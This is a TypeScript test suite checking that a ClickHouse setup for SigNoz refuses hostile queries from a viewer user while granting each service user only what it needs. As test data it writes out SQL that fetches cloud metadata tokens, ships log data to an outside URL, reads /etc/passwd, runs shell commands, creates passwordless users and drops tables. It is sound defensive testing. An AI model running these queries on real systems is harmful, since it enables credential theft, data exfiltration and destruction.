import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { Engine, maxQueryBytes } from "./clickhouse/engine";

let engine: Engine;
/** Its session is user `signoz`, as a viewer's is. */
let viewer: Engine;
/** What the listener that stands in for the metadata server was asked for. */
const asked: string[] = [];
const listener = createServer((request, answer) => {
  asked.push(request.url ?? "");
  answer.end("token\n");
});
let port = 0;

beforeAll(async () => {
  await new Promise<void>((resolve) => listener.listen(0, "127.0.0.1", resolve));
  port = (listener.address() as AddressInfo).port;
  engine = await Engine.start();
  // As SigNoz's migrations make them, by the user that makes them.
  for (const statement of [
    "CREATE DATABASE signoz_logs",
    "CREATE DATABASE signoz_analytics",
    "CREATE TABLE signoz_logs.logs_v2 (timestamp UInt64, body String, _retention_days UInt16 DEFAULT 15) ENGINE = MergeTree ORDER BY timestamp TTL toDateTime(timestamp / 1000000000) + toIntervalDay(_retention_days)",
    "CREATE TABLE signoz_logs.distributed_logs_v2 AS signoz_logs.logs_v2 ENGINE = Distributed('cluster', 'signoz_logs', 'logs_v2', cityHash64(timestamp))",
    "CREATE TABLE signoz_logs.keys (name String) ENGINE = ReplacingMergeTree ORDER BY name",
    "CREATE MATERIALIZED VIEW signoz_logs.keys_mv TO signoz_logs.keys AS SELECT body AS name FROM signoz_logs.logs_v2",
    "CREATE TABLE signoz_analytics.rule_state_history_v0 (rule_id String, unix_milli Int64) ENGINE = MergeTree ORDER BY rule_id",
    "CREATE TABLE signoz_analytics.distributed_rule_state_history_v0 AS signoz_analytics.rule_state_history_v0 ENGINE = Distributed('cluster', 'signoz_analytics', 'rule_state_history_v0', cityHash64(rule_id))",
    "ALTER TABLE signoz_logs.logs_v2 ADD COLUMN severity_text String",
    "ALTER TABLE signoz_logs.logs_v2 MODIFY COLUMN _retention_days UInt16 DEFAULT 30",
    // As the runbook has a person do it, when the disk is full.
    "ALTER TABLE signoz_logs.logs_v2 DROP PARTITION ID 'all'",
  ])
    expect([statement, await engine.as("migrator", statement)]).toEqual([
      statement,
      { ok: true, text: "" },
    ]);
  await engine.as("", "CREATE DATABASE other");
  await engine.as(
    "",
    "CREATE TABLE other.private (secret String) ENGINE = MergeTree ORDER BY secret",
  );
  await engine.stop(false);
  viewer = await Engine.start(true, engine.folder);
}, 300_000);
afterAll(async () => {
  await engine.stop();
  listener.close();
});

/** @param statements with PORT where the listener's port goes */
const refused = (kind: string, error: RegExp, statements: string[]) =>
  it.each(statements)(`${kind}: %s`, { tags: "attack/machine" }, async (statement) => {
    const { ok, text } = await viewer.as("", statement.replaceAll("PORT", String(port)));
    expect([ok, text]).toEqual([false, expect.stringMatching(error)]);
    expect(asked).toEqual([]);
  });

describe("a viewer's ClickHouse query", () => {
  const denied = /ACCESS_DENIED|Not enough privileges/;
  refused("leaves the database", denied, [
    "SELECT * FROM url('http://127.0.0.1:PORT/computeMetadata/v1/instance/service-accounts/default/token', 'LineAsString', 's String')",
    "SELECT * FROM url('http://[fd20:ce::254]/computeMetadata/v1/', 'LineAsString')",
    "SELECT * FROM url('http://metadata.google.internal/', 'LineAsString', 's String', headers('Metadata-Flavor' = 'Google'))",
    "SELECT * FROM urlCluster('cluster', 'http://127.0.0.1:PORT/', 'LineAsString', 's String')",
    "DESCRIBE TABLE url('http://127.0.0.1:PORT/')",
    "EXPLAIN SELECT * FROM url('http://127.0.0.1:PORT/a.csv')",
    "SELECT (SELECT count() FROM url('http://127.0.0.1:PORT/', 'LineAsString', 's String'))",
    "WITH a AS (SELECT * FROM url('http://127.0.0.1:PORT/', 'LineAsString', 's String')) SELECT * FROM a",
    "SELECT * FROM view(SELECT * FROM url('http://127.0.0.1:PORT/', 'LineAsString', 's String'))",
    "SELECT * FROM loop(url('http://127.0.0.1:PORT/', 'LineAsString', 's String'))",
    "SELECT * FROM s3('http://127.0.0.1:PORT/bucket/k.csv', 'CSV', 's String')",
    "SELECT * FROM file('/etc/passwd', 'LineAsString', 's String')",
    "SELECT * FROM remote('127.0.0.1:PORT', system.one)",
    "SELECT * FROM remoteSecure('127.0.0.1:PORT', system.one)",
    "SELECT * FROM cluster('cluster', system.one)",
    "SELECT * FROM clusterAllReplicas('cluster', system.one)",
    "SELECT * FROM mysql('127.0.0.1:PORT', 'a', 'b', 'c', 'd')",
    "SELECT * FROM postgresql('127.0.0.1:PORT', 'a', 'b', 'c', 'd')",
    "SELECT * FROM executable('id', 'LineAsString', 's String')",
    "INSERT INTO FUNCTION url('http://127.0.0.1:PORT/', 'LineAsString', 's String') SELECT body FROM signoz_logs.logs_v2",
    "INSERT INTO FUNCTION file('/tmp/out', 'LineAsString', 's String') SELECT 'x'",
  ]);
  refused("changes the schema", /ACCESS_DENIED|Not enough privileges|QUERY_IS_PROHIBITED/, [
    "DROP TABLE signoz_logs.logs_v2",
    "DROP DATABASE signoz_logs",
    "TRUNCATE TABLE signoz_logs.logs_v2",
    "RENAME TABLE signoz_logs.logs_v2 TO signoz_logs.gone",
    "DETACH TABLE signoz_logs.logs_v2",
    "ALTER TABLE signoz_logs.logs_v2 MODIFY TTL toDateTime(timestamp / 1000000000) + toIntervalSecond(1)",
    "ALTER TABLE signoz_logs.logs_v2 MODIFY COLUMN _retention_days UInt16 DEFAULT 1",
    "ALTER TABLE signoz_logs.logs_v2 DELETE WHERE 1",
    "DELETE FROM signoz_logs.logs_v2 WHERE 1",
    "ALTER TABLE signoz_logs.logs_v2 DROP COLUMN body",
    "OPTIMIZE TABLE signoz_logs.logs_v2 FINAL",
    "INSERT INTO signoz_logs.logs_v2 (timestamp) SELECT 1",
    "CREATE TABLE signoz_logs.t (s String) ENGINE = URL('http://127.0.0.1:PORT/', 'LineAsString')",
    "CREATE TEMPORARY TABLE t (s String) ENGINE = URL('http://127.0.0.1:PORT/', 'LineAsString')",
    "CREATE VIEW signoz_logs.v AS SELECT 1",
    "CREATE DATABASE d ENGINE = MySQL('127.0.0.1:PORT', 'a', 'b', 'c')",
    "CREATE DICTIONARY signoz_logs.d (k UInt64, v String) PRIMARY KEY k SOURCE(HTTP(URL 'http://127.0.0.1:PORT/' FORMAT 'TSV')) LAYOUT(FLAT()) LIFETIME(1)",
    "CREATE FUNCTION evil AS (x) -> x",
    "CREATE NAMED COLLECTION c AS url = 'http://127.0.0.1:PORT/'",
    "CREATE USER evil IDENTIFIED WITH no_password",
    "GRANT READ ON URL TO signoz",
    "ALTER USER signoz SETTINGS PROFILE 'default'",
    "BACKUP TABLE signoz_logs.logs_v2 TO Disk('default', 'x')",
    "SYSTEM SHUTDOWN",
    "SYSTEM DROP MARK CACHE",
  ]);
  refused("reads what is not telemetry", /Not enough privileges|There are no tables/, [
    "SELECT * FROM other.private",
    "SELECT * FROM system.users",
    "SHOW CREATE USER collector",
    "SHOW GRANTS FOR migrator",
    "SELECT * FROM merge('other', 'priv.*')",
    "EXECUTE AS migrator SELECT 1",
  ]);
  refused("lifts its limits", /SETTING_CONSTRAINT_VIOLATION|QUERY_IS_PROHIBITED/, [
    "SELECT 1 SETTINGS max_memory_usage = 0",
    `SELECT 1 SETTINGS max_memory_usage = ${maxQueryBytes + 1}`,
    "SELECT 1 SETTINGS max_memory_usage_for_user = 0",
    "SELECT 1 SETTINGS max_execution_time = 0",
    "SELECT 1 SETTINGS max_execution_time = 100000",
    "SELECT 1 SETTINGS max_result_bytes = 0",
    "SELECT 1 SETTINGS max_temporary_data_on_disk_size_for_user = 0",
    "SELECT 1 SETTINGS max_concurrent_queries_for_user = 0",
    "SELECT 1 SETTINGS allow_ddl = 1",
    "SELECT 1 SETTINGS allow_introspection_functions = 1",
    "SELECT 1 SETTINGS log_queries = 0",
    "SET max_memory_usage = 0",
  ]);
  refused("takes too much", /memory limit exceeded/i, [
    "SELECT groupArray(number) FROM numbers(1000000000)",
  ]);
});

describe("what each user needs, it may", () => {
  beforeAll(async () => {
    await viewer.stop(false);
    engine = await Engine.start(false, engine.folder);
  });
  it.each([
    [
      "collector",
      "INSERT INTO signoz_logs.distributed_logs_v2 (timestamp, body) SELECT 1795594705000000000, 'hello'",
    ],
    ["collector", "SELECT name FROM signoz_logs.keys"],
    ["signoz", "SELECT body FROM signoz_logs.distributed_logs_v2"],
    [
      "signoz",
      "SELECT count() FROM signoz_logs.logs_v2 WHERE body ILIKE '%x%' SETTINGS max_execution_time = 65, max_result_rows = 10, max_threads = 4, log_comment = 'x', ignore_data_skipping_indices = 'a', secondary_indices_enable_bulk_filtering = 0, max_rows_to_group_by = 10, result_overflow_mode = 'break', output_format_native_write_json_as_string = 1",
    ],
    ["signoz", "SHOW CREATE TABLE signoz_logs.logs_v2"],
    [
      "signoz",
      "SELECT 1 FROM system.columns WHERE database = 'signoz_logs' AND table = 'logs_v2' AND name = '_retention_days' LIMIT 1",
    ],
    ["signoz", "SELECT engine_full FROM system.tables WHERE name = 'logs_v2'"],
    ["signoz", "SELECT name, type FROM system.disks"],
    ["signoz", "SELECT count() FROM system.data_skipping_indices"],
    ["signoz", "INSERT INTO signoz_analytics.distributed_rule_state_history_v0 SELECT 'rule', 1"],
    ["migrator", "SELECT count() FROM clusterAllReplicas('cluster', system.tables)"],
    ["migrator", "SELECT count() FROM system.mutations"],
  ] as const)("%s: %s", async (user, statement) => {
    expect(await engine.as(user, statement)).toMatchObject({ ok: true });
  });

  it("what came in by the collector is there, and in the view behind it", async () => {
    await engine.as("", "SYSTEM FLUSH DISTRIBUTED signoz_logs.distributed_logs_v2");
    const read =
      "SELECT (SELECT count() FROM signoz_logs.logs_v2), (SELECT count() FROM signoz_logs.keys)";
    expect((await engine.as("signoz", read)).text).toBe("1\t1\n");
  });

  it.each([
    ["backup", "SELECT name FROM system.databases WHERE startsWith(name, 'signoz_')"],
    ["backup", "BACKUP DATABASE signoz_logs TO Disk('backups', 'full')"],
    [
      "migrator",
      "RESTORE ALL FROM Disk('backups', 'full') SETTINGS allow_non_empty_tables = 1, allow_different_table_def = 1",
    ],
  ] as const)("%s, on GKE: %s", async (user, statement) => {
    expect(await engine.as(user, statement)).toMatchObject({ ok: true });
  });

  it.each([
    ["backup", "SELECT * FROM signoz_logs.logs_v2"],
    ["backup", "BACKUP DATABASE other TO Disk('backups', 'other')"],
    ["backup", "RESTORE ALL FROM Disk('backups', 'full') SETTINGS allow_non_empty_tables = 1"],
    ["collector", "BACKUP DATABASE signoz_logs TO Disk('backups', 'collector')"],
    ["collector", "RESTORE ALL FROM Disk('backups', 'full') SETTINGS allow_non_empty_tables = 1"],
    ["migrator", "BACKUP DATABASE signoz_logs TO Disk('backups', 'migrator')"],
    ["collector", "DROP TABLE signoz_logs.logs_v2"],
    ["collector", "ALTER TABLE signoz_logs.logs_v2 DELETE WHERE 1"],
    ["collector", "SELECT * FROM url('http://127.0.0.1/', 'LineAsString', 's String')"],
    ["migrator", "SELECT * FROM url('http://127.0.0.1/', 'LineAsString', 's String')"],
    ["migrator", "SELECT * FROM file('/etc/passwd', 'LineAsString', 's String')"],
    ["migrator", "SELECT * FROM other.private"],
    ["migrator", "CREATE FUNCTION evil AS (x) -> x"],
    ["migrator", "CREATE USER evil IDENTIFIED WITH no_password"],
  ] as const)("%s may not: %s", { tags: "attack/machine" }, async (user, statement) => {
    expect(await engine.as(user, statement)).toMatchObject({
      ok: false,
      text: expect.stringMatching(/Not enough privileges|ACCESS_DENIED/),
    });
  });
});
